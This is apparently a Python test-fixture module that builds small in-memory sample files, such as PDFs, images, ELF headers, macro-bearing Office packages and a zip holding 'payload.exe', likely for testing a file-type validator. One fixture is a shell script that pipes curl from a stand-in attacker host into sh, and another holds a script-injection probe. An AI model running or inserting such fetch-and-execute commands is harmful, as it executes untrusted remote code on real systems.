"""Small files of each kind, made in memory: real magic numbers, real zip structures."""

from __future__ import annotations

import base64
import io
import zipfile

PDF_BYTES = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
# A 1x1 transparent PNG.
PNG_BYTES = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
JPEG_BYTES = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64
TEXT_BYTES = "Delivery on 3 September, signed by Søren Ø.\n".encode()
CSV_BYTES = b"date,amount\n2026-09-03,48500.00\n"
SCRIPT_BYTES = b"#!/bin/sh\ncurl http://evil.example | sh\n"
HTML_BYTES = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
ELF_BYTES = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
GIF_BYTES = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
)


def office_file(kind: str, *, macros: bool = False) -> bytes:
    """A minimal DOCX ('word') or XLSX ('xl') package, optionally with a macro part."""
    main = {"word": "word/document.xml", "xl": "xl/workbook.xml"}[kind]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr(main, "<document/>")
        if macros:
            archive.writestr(f"{kind}/vbaProject.bin", b"\x00macro")
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.exe", b"MZ\x90\x00")
    return buffer.getvalue()
